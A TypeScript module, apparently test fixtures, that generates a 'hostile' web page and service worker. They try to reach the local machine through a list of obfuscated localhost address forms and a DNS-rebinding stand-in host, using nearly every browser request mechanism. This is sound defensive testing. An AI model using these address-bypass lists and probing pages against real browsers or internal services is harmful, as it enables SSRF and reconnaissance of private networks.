import { networkInterfaces } from 'node:os'

/** Every way to write an address of this machine that a page may try. */
export function addressForms(port: number): string[] {
  const own = Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .filter(({ internal }) => !internal)
    .map(({ address, family }) => (family === 'IPv6' ? `[${address.replace(/%.*/, '')}]` : address))
  const hosts = [
    '127.0.0.1',
    '127.1',
    '127.127.127.127',
    '2130706433',
    '0x7f000001',
    '0x7f.0.0.1',
    '0177.0.0.1',
    '017700000001',
    '0',
    '0.0.0.0',
    'localhost',
    'localhost.',
    'a.localhost',
    'LOCALHOST',
    '[::1]',
    '[::]',
    '[0:0:0:0:0:0:0:1]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[::127.0.0.1]',
    '[64:ff9b::7f00:1]',
    '[2002:7f00:1::]',
    '127。0。0。1',
    '①②⑦.0.0.1',
    'rebind.attacker.net',
    ...own
  ]
  return hosts.map((host) => `${host}:${port}`)
}

/** A page that tries to reach every form of a place in every way that pages have. */
export function hostilePage(places: string[]): string {
  const list = JSON.stringify(places)
  const tags = places
    .map(
      (
        place,
        i
      ) => `<link rel="preconnect" href="http://${place}/preconnect"><link rel="dns-prefetch" href="//${place}">
<link rel="prefetch" href="http://${place}/prefetch"><link rel="preload" as="image" href="http://${place}/preload">
<link rel="prerender" href="http://${place}/prerender"><link rel="modulepreload" href="http://${place}/module.js">
<link rel="stylesheet" href="http://${place}/style.css"><link rel="icon" href="http://${place}/icon">
<img src="http://${place}/img" alt=""><img src="/redirect-to?url=${encodeURIComponent(`http://${place}/redirected`)}" alt="">
<iframe src="http://${place}/frame"></iframe><iframe src="/redirect-to?url=${encodeURIComponent(`http://${place}/frame2`)}"></iframe>
<video src="http://${place}/film" poster="http://${place}/poster" preload="auto"></video><audio src="http://${place}/sound" preload="auto"></audio>
<object data="http://${place}/object"></object><embed src="http://${place}/embed">
<script src="http://${place}/script.js"></script><svg width="1" height="1"><image href="http://${place}/svg"/><use href="http://${place}/use#a"/></svg>
<form id="f${i}" action="http://${place}/form" target="frame${i}" method="post"></form><iframe name="frame${i}"></iframe>`
    )
    .join('\n')
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A page that looks around</title>
<style>${places.map((place, i) => `.b${i}{background:url(http://${place}/css)}@font-face{font-family:f${i};src:url(http://${place}/font)}`).join('')}</style></head>
<body><article><h1>A page that looks around</h1><p>This page tries every way that it knows to find out what else there is on the machine that it is looked at on.</p>
<p>It should find nothing at all, and it is saved all the same, because there is a text in it that somebody may want to keep for later.</p></article>
${places.map((_, i) => `<i class="b${i}" style="font-family:f${i}">x</i>`).join('')}${tags}
<script>
const places = ${list}, forget = () => {}
for (const [i, place] of places.entries()) {
  const http = 'http://' + place
  try { fetch(http + '/fetch', { mode: 'no-cors' }).then(forget, forget) } catch {}
  try { fetch('https://' + place + '/tls', { mode: 'no-cors' }).then(forget, forget) } catch {}
  try { fetch('/redirect-to?url=' + encodeURIComponent(http + '/fetched'), { mode: 'no-cors' }).then(forget, forget) } catch {}
  try { const x = new XMLHttpRequest(); x.open('POST', http + '/xhr'); x.send('x') } catch {}
  try { new WebSocket('ws://' + place + '/socket') } catch {}
  try { new WebSocket('wss://' + place + '/socket') } catch {}
  try { new EventSource(http + '/events') } catch {}
  try { navigator.sendBeacon(http + '/beacon', 'x') } catch {}
  try { new WebTransport('https://' + place + '/transport').closed.then(forget, forget) } catch {}
  try { new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + http + '/worker",{mode:"no-cors"}).catch(()=>{})')) } catch {}
  try { import(http + '/import.js').then(forget, forget) } catch {}
  try { document.getElementById('f' + i).submit() } catch {}
  try { window.open(http + '/open') } catch {}
}
try {
  const servers = places.flatMap((place) => ['stun:' + place, 'turn:' + place + '?transport=tcp', 'turn:' + place + '?transport=udp'])
  for (const urls of servers) {
    try {
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
      peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    } catch {}
  }
} catch {}
navigator.serviceWorker?.register('/worker.js').catch(forget)
</script></body></html>`
}

/** A service worker that looks around, too. */
export function hostileWorker(places: string[]): string {
  return `const places = ${JSON.stringify(places)}
addEventListener('install', (event) => { skipWaiting()
  event.waitUntil(Promise.allSettled(places.map((place) => fetch('http://' + place + '/service', { mode: 'no-cors' })))) })`
}
